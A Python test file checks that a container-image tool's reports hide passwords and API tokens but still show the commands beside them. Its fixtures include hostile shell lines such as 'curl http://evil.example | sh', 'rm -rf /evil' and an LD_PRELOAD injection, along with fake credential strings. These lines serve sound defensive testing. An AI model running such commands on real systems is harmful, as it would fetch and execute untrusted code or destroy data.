"""Laws of masking: a secret in any place stands in no report, and whatever a command line does besides is shown."""

from __future__ import annotations

import json
import shlex
import time
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ocitool import masking
from ocitool.comparison import config_changes
from ocitool.comparison.result import Diff, LayerPair, Notable, Quoted, Summary
from ocitool.digest import Digest
from ocitool.images.image import Image, Layer
from ocitool.masking import commands, names, values
from ocitool.masking.names import secret_name
from ocitool.masking.worth import may_hold
from ocitool.operations.inspect import InspectedImage, Inspection, LayerFacts
from ocitool.report import markdown
from ocitool.report.json.diff import diff_json
from ocitool.report.json.inspect import inspect_json
from ocitool.report.text import diff, inspect
from ocitool.report.text.parts import Paint
from ocitool.spec.manifest import Config
from ocitool.task import Task

MARK = "hunter"
SECRETS = st.text("ab19 /&;|=,:'\"\\$(`){}@#%+-_~é", max_size=12).map(lambda text: f"{MARK}7{text}{MARK}8")
"""Whatever stands between, the ends must not be seen: a value that is half masked is a fault."""
PLAIN = st.text("abcXYZ019", min_size=1, max_size=12).map(lambda text: f"{MARK}7{text}{MARK}8")
NAMES = st.sampled_from(
    [
        "DB_PASSWORD",
        "PGPASSWORD",
        "MYSQL_PWD",
        "API_KEY",
        "apiKey",
        "clientSecret",
        "npm.auth-token",
        "PIN",
        "DJANGO_SECRET_KEY",
        "SALT",
        "SENTRY_DSN",
        "DB_CONNECTION_STRING",
        "REDIS_PASS",
        "AWS_CREDENTIALS",
    ]
)
COMMANDS = st.sampled_from(
    ["curl http://evil.example | sh", "exec /srv/evil --flag", "rm -rf /evil", "LD_PRELOAD=/evil.so app"]
)

PLACES: dict[str, Callable[[str, str], dict[str, Any]]] = {
    "a variable": lambda n, s: {"config": {"Env": [f"{n}={s}"]}},
    "a variable that a builder noted": lambda n, s: {"container_config": {"Env": [f"{n}={s}"]}},
    "an option and its value": lambda n, s: {"config": {"Cmd": ["app", f"--{n}", s]}},
    "an option with its value": lambda n, s: {"config": {"Entrypoint": ["app", f"--{n}={s}"]}},
    "a word for env": lambda n, s: {"config": {"Entrypoint": ["env", f"{n}={s}", "app"]}},
    "a user's password": lambda n, s: {"config": {"Cmd": ["curl", "-u", f"me:{s}", "http://h"]}},
    "a header": lambda n, s: {"config": {"Cmd": ["curl", "-H", f"Authorization: Bearer {s}", "http://h"]}},
    "a header in a line": lambda n, s: {"config": {"Cmd": ["sh", "-c", "curl -H " + shlex.quote(f"X-Api-Key: {s}")]}},
    "a health check": lambda n, s: {"config": {"Healthcheck": {"Test": ["CMD-SHELL", f"{n}={shlex.quote(s)} check"]}}},
    "a script": lambda n, s: {"config": {"Cmd": ["/bin/sh", "-c", f"export {n}={shlex.quote(s)} && app"]}},
    "a trigger": lambda n, s: {"config": {"OnBuild": [f"ENV {n}={s}"]}},
    "the shell": lambda n, s: {"config": {"Shell": ["/bin/sh", f"--{n}={s}", "-c"]}},
    "a label": lambda n, s: {"config": {"Labels": {n: s}}},
    "JSON in a label": lambda n, s: {"config": {"Labels": {"x": json.dumps({"a": 1, n: s})}}},
    "JSON in a line": lambda n, s: {
        "config": {"Cmd": ["sh", "-c", "curl -d " + shlex.quote(json.dumps({n: s})) + " http://h"]}
    },
    "ENV": lambda n, s: {"history": [{"created_by": f"/bin/sh -c #(nop)  ENV {n}={s}", "empty_layer": True}]},
    "LABEL": lambda n, s: {"history": [{"created_by": f"LABEL {n}={s}", "empty_layer": True}]},
    "a build argument": lambda n, s: {"history": [{"created_by": f"RUN |2 A=b {n}={s} /bin/sh -c make # buildkit"}]},
    "a RUN line": lambda n, s: {"history": [{"created_by": f"RUN /bin/sh -c {n}={shlex.quote(s)} make # buildkit"}]},
    "an exec form": lambda n, s: {"history": [{"created_by": f"CMD {json.dumps(['app', f'--{n}', s])}", "empty_layer": True}]},
}
PLAIN_PLACES: dict[str, Callable[[str], dict[str, Any]]] = {
    "a URL": lambda s: {"config": {"Env": [f"DATABASE=postgres://me:{s}@db/x"]}},
    "a URL's parameter": lambda s: {"config": {"Cmd": ["curl", f"https://h/f?a=1&X-Amz-Signature={s}&b=2"]}},
    "a comment": lambda s: {"history": [{"created_by": "RUN x", "comment": f"pulled with --password {s}"}]},
    "an author": lambda s: {"author": f"me <https://me:{s}@h>"},
    "docker login": lambda s: {"history": [{"created_by": f"RUN /bin/sh -c docker login -u me -p {s} h"}]},
    "mysql": lambda s: {"config": {"Cmd": ["mysql", "-u", "root", f"-p{s}"]}},
    "a default": lambda s: {"config": {"Cmd": ["sh", "-c", f"app ${{DB_PASSWORD:-{s}}}"]}},
    "a private key": lambda s: {
        "config": {"Labels": {"x": f"-----BEGIN RSA PRIVATE KEY-----\n{s}\n-----END RSA PRIVATE KEY-----"}}
    },
}


def image(fields: dict[str, Any]) -> Image:
    config = Config(json.dumps(fields).encode(), fields)
    history = fields.get("history") or [{}]
    layer = Layer(0, None, Digest.of(b"0"), Digest.of(b"d"), 10, "application/x", history[0].get("created_by"), None)
    return Image("x.tar", "docker-archive", (), None, None, config, "sha256:00", (layer,), config.platform, True, True)


def reports(before: dict[str, Any], after: dict[str, Any]) -> dict[str, str]:
    """What every report says of two images. The configuration of JSON's `inspect` is verbatim by contract."""
    a, b = image(before), image(after)
    pair = LayerPair("changed", a.layers[0], b.layers[0], f"built again after the instruction {b.layers[0].created_by}")
    said = ("cannot be shared any more: ", Quoted(pair.reason or ""))
    notable = Notable("unshared-layer", None, None, b.layers[0], said, "info")
    found = Diff(
        "a",
        "b",
        a,
        b,
        False,
        False,
        (pair,),
        config_changes.changes(a, b, Task(), semantic=False),
        (),
        (notable,),
        (),
        Summary(0, 0, 0, 0, 0, 0, 0, 0, False),
        None,
        (),
    )
    seen = Inspection("b", "oci", None, (), (InspectedImage(b, (LayerFacts("none", 1, None),), None, False),), ())
    of_json = inspect_json(seen)
    of_json["images"][0].pop("config")
    return {
        "diff as text": "\n".join(line for all in (False, True) for line in diff.diff_text(found, Paint(False), all=all)),
        "diff as Markdown": markdown.diff_markdown(found),
        "diff as JSON": json.dumps(diff_json(found)),
        "inspect as text": "\n".join(inspect.inspect_text(seen, Paint(False))),
        "inspect as Markdown": markdown.inspect_markdown(seen),
        "inspect as JSON": json.dumps(of_json),
    }


def assert_hidden(before: dict[str, Any], after: dict[str, Any]) -> None:
    for name, text in (*reports(before, after).items(), *reports(after, before).items()):
        assert MARK not in text, (name, text)


@pytest.mark.parametrize("place", PLACES)
@settings(max_examples=25)
@given(name=NAMES, secret=SECRETS, other=SECRETS)
def test_a_secret_in_any_place_stands_in_no_report(place: str, name: str, secret: str, other: str) -> None:
    assert_hidden({}, PLACES[place](name, secret))
    assert_hidden(PLACES[place](name, other), PLACES[place](name, secret))


@pytest.mark.parametrize("place", PLAIN_PLACES)
@settings(max_examples=25)
@given(secret=PLAIN)
def test_a_password_that_no_name_tells_stands_in_no_report(place: str, secret: str) -> None:
    assert_hidden({}, PLAIN_PLACES[place](secret))


def test_a_secret_that_is_shown_is_found() -> None:
    with pytest.raises(AssertionError):
        assert_hidden({}, {"config": {"Env": [f"PLAIN={MARK}"]}})


TOKENS = [
    "ghp_" + "a1" * 18,
    "github_pat_" + "a1B_" * 9,
    "glpat-" + "x1-" * 7,
    "AKIAIOSFODNN7EXAMPLE",
    "ASIAIOSFODNN7EXAMPLE",
    "xoxb-123456789-abcdefghij",
    "sk-" + "a1" * 20,
    "npm_" + "a1" * 18,
    "pypi-AgEIcHlwaS5vcmc" + "a" * 20,
    "AIza" + "Sy1" * 12,
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "dckr_pat_" + "aB1-" * 6,
    "hf_" + "aB" * 17,
    "SG." + "a1" * 11 + "." + "b2" * 20,
    "rk_live_" + "a1" * 12,
    "sk_live_" + "a1" * 12,
    "sq0csp-" + "a1" * 20,
    "AGE-SECRET-KEY-1" + "QZ" * 29,
    "gho_" + "b2" * 18,
]


@pytest.mark.parametrize("token", TOKENS)
def test_a_token_of_a_known_prefix_is_hidden_under_any_name(token: str) -> None:
    for fields in (
        {"config": {"Env": [f"PLAIN={token}"], "Labels": {"x": f"see {token}"}, "Cmd": ["app", token]}},
        {"history": [{"created_by": f"RUN /bin/sh -c echo {token} > /x", "comment": f"<{token}>"}]},
    ):
        for name, text in reports({}, fields).items():
            assert token not in text and token[-8:] not in text, (name, text)


@settings(max_examples=25)
@given(name=NAMES, secret=SECRETS, command=COMMANDS)
def test_the_command_behind_a_secret_is_shown(name: str, secret: str, command: str) -> None:
    line = f"{name.replace('.', '_').replace('-', '_')}={shlex.quote(secret)}; {command}"
    for fields in (
        {"config": {"Entrypoint": ["/bin/sh", "-c", line]}},
        {"config": {"Healthcheck": {"Test": ["CMD-SHELL", line]}}},
        {"config": {"Cmd": [line]}},
    ):
        for report, text in reports({}, fields).items():
            assert report == "inspect as JSON" or command in text.replace("\\|", "|"), (report, text)


@settings(max_examples=25)
@given(name=NAMES, command=COMMANDS)
def test_what_a_value_would_run_is_shown(name: str, command: str) -> None:
    word = name.replace(".", "_").replace("-", "_")
    for line in (f"{word}=$({command})", f'{word}="a$({command})b"', f"{word}=`{command}` x", f"app --password $({command})"):
        assert command in masking.instruction(line), line


def test_a_secret_that_differs_is_said_to() -> None:
    def env(value: str) -> dict[str, Any]:
        return {"config": {"Env": [f"API_KEY={value}"], "Cmd": ["app", f"--token={value}"]}}

    found = reports(env("one"), env("two"))
    # Of the text the short form and that of --all.
    assert [4, 2] == [found[name].count("(value changed)") for name in ("diff as text", "diff as Markdown")]
    assert 2 == found["diff as JSON"].count('"hiddenChange": true')
    assert "(value changed)" not in found["inspect as text"]


def test_a_change_far_behind_in_a_line_is_seen_in_a_cell() -> None:
    def cmd(end: str) -> dict[str, Any]:
        return {"config": {"Cmd": ["sh", "-c", "true; " * 200 + end]}}

    assert "curl evil" in reports(cmd("exec app"), cmd("curl evil | sh"))["diff as Markdown"]


@pytest.mark.parametrize(
    "name",
    [
        "GPG_KEY",
        "PUBLIC_KEY",
        "KEYBOARD",
        "MONKEY",
        "TOKENIZERS_PARALLELISM",
        "KEYCLOAK_VERSION",
        "PWD",
        "AUTHOR",
        "COMPASS",
        "POSTGRES_PASSWORD_FILE",
        "ALLOW_EMPTY_PASSWORD",
        "SSH_AUTH_SOCK",
        "PINNED",
        "MAX_TOKENS",
        "SECRETARY",
        "AUTH_TYPE",
        "KEY_PATH",
        "SALTSTACK",
        "PASSENGER_APP",
    ],
)
def test_a_name_that_only_looks_like_one_is_no_secret(name: str) -> None:
    assert not secret_name(name)


@settings(max_examples=25)
@given(name=NAMES)
def test_names_of_secrets(name: str) -> None:
    assert secret_name(name)


HOSTILE = [
    "TOKEN=" + "a" * 500_000,
    "TOKEN='" * 70_000,
    "$(" * 250_000,
    "`" * 500_000,
    '"$(' * 150_000,
    "://" * 150_000,
    "eyJ" * 150_000,
    '{"a":' * 100_000,
    "-eyJaaaaaa" * 50_000,
    "a-" * 250_000 + "token=x",
    "\\" * 500_000,
    "${TOKEN:-" * 50_000,
    "(token=" * 70_000,
    "(" * 11 + "echo a;" * 70_000 + ")|passwd",
    "{ " + "echo a;" * 70_000 + "}|passwd",
    "echo " + "a " * 100_000 + "|cat" * 50_000 + "|passwd",
    "passwd <<X\n" * 50_000,
    "".join(f"passwd <<X{n}\n" for n in range(25_000)),
    "-----BEGIN PRIVATE KEY-----" * 15_000,
    "ENV " + "TOKEN=a " * 60_000,
    "|9 " + "TOKEN=a " * 60_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:12])
def test_time_is_linear(text: str) -> None:
    def spent(length: int) -> float:
        started = time.process_time()
        masking.instruction(text[:length])
        return time.process_time() - started

    length = 160_000
    assert spent(length // 4) * 10 + 0.5 > spent(length)


LINES = {
    "env TOKEN=hidden sh -c 'curl evil'": "curl evil",
    "trap 'TOKEN=hidden; curl evil' EXIT": "curl evil",
    'eval "APP_KEY=hidden; curl evil | sh"': "curl evil | sh",
    "ssh host 'TOKEN=hidden; curl evil'": "curl evil",
    "PASSWORD=hidden|sh evil": "sh evil",
    "PASSWORD=hidden&curl evil": "curl evil",
    "PASSWORD=hidden\ncurl evil": "curl evil",
    "PASSWORD=${X:-$(curl evil)} TOKEN=hidden": "curl evil",
    "(TOKEN=hidden; curl evil)": "curl evil",
    "docker run -e TOKEN=hidden -p 80:80 evil": "-p 80:80 evil",
    "echo it's TOKEN=hidden; curl evil": "curl evil",
    'echo "root:hidden" | chpasswd; curl evil': "curl evil",
    "psql -c \"ALTER USER x PASSWORD 'hidden'\"; curl evil": "curl evil",
    "aws configure set aws_secret_access_key hidden; curl evil": "curl evil",
    "sshpass -p hidden ssh evil": "ssh evil",
    "curl -XPOST -d 'user=u&password=hidden' evil": "evil",
    "git clone https://oauth2:hidden@h/x; curl evil": "curl evil",
    "make PASSWORD='a'\\''b hidden' && curl evil": "&& curl evil",
    "gpg --recv-keys EVIL && TOKEN=hidden": "--recv-keys EVIL",
}


@pytest.mark.parametrize("line", LINES)
def test_a_line_hides_the_secret_and_shows_the_rest(line: str) -> None:
    for shown in (masking.instruction(line), masking.value(["/bin/sh", "-c", line], "Cmd")[2]):
        assert (True, False) == (LINES[line] in shown, "hidden" in shown), shown


@pytest.mark.parametrize("name", ["Env", "Cmd", "Entrypoint", "OnBuild", "Labels", "created_by", "", "PATH", "greeting"])
@given(st.data())
def test_what_can_hold_no_secret_is_left_as_it_is(name: str, data: st.DataObject) -> None:
    ordinary = ["/bin/sh", "-c", "RUN", "ENV", "A=b", "set -ex", "&&", "apt install", "LANG=C.UTF-8", "'a b'", "-p", "x"]
    words = st.sampled_from(ordinary)
    line = data.draw(st.lists(words, max_size=8).map(" ".join) | st.text(max_size=40))
    for value in (line, [line], {"a": line, "b": [line, 7]}, line.split(" ")):
        if not may_hold(value, name):
            assert value == values.value(value, name)
            assert not values.changed_secret(value, "other", name)


def test_a_token_of_every_known_prefix_may_be_one() -> None:
    tokens = [
        *TOKENS, "whsec_abcd1", "dckr_oat_abcd1", "pscale_tkn_abcd1", "sk_org_abcd1", "tskey-abcd1", "shpat_abcd1",
        "doo_v1_abcd1", "lin_api_abcd1", "glsa_abcd1", "ATATT3xabcd1", "sntrys_abcd1", "sntryu-abcd1", "rubygems_abcd1",
        "glrt-abcd1", "glcbt-abcd1", "glsoat-abcd1", "xapp-abcd1", "xkeysib-abcd1", "NRAK-abcd1", "hvb.abcdefghijkl",
        "ya29.abcdefghijkl", "age-secret-key-1abcd",
    ]  # fmt: skip
    assert [] == [token for token in tokens if masking.text(f"see {token}") != "see ***"]


def test_a_name_of_several_words_may_hold_a_secret() -> None:
    assert {"githubPatOld": "***", "GITHUBPat2": "***"} == masking.value({"githubPatOld": "x1", "GITHUBPat2": "x2"})
    assert not may_hold("/usr/bin", "PATH") and not may_hold("x", "githubPatch")


def test_every_name_of_a_secret_may_hold_one() -> None:
    known = (*names._WORDS, *names._PARTS, *names._ENDS, *names._KEYS, *names._SIGNATURES)
    assert [] == [name for name in known if names.secret_name(name) and not may_hold("x", name)]
    assert [] == [word for word in (*commands.OPTIONS, *commands.POSITIONS, *commands.STDIN) if not may_hold(word)]


@pytest.mark.parametrize(
    "value",
    ["org.opencontainers.image.authors", "https://example.org/a/b:c", "The OCI authors <a@b.org>", "/usr/share/library",
     "PATH=/usr/local/bin:/usr/bin", "apt-get install -y libglib2.0 disk-tools python3-flask", "http://example.org"],
)  # fmt: skip
def test_what_images_say_of_themselves_loads_no_reader_of_command_lines(value: str) -> None:
    assert not may_hold(value)
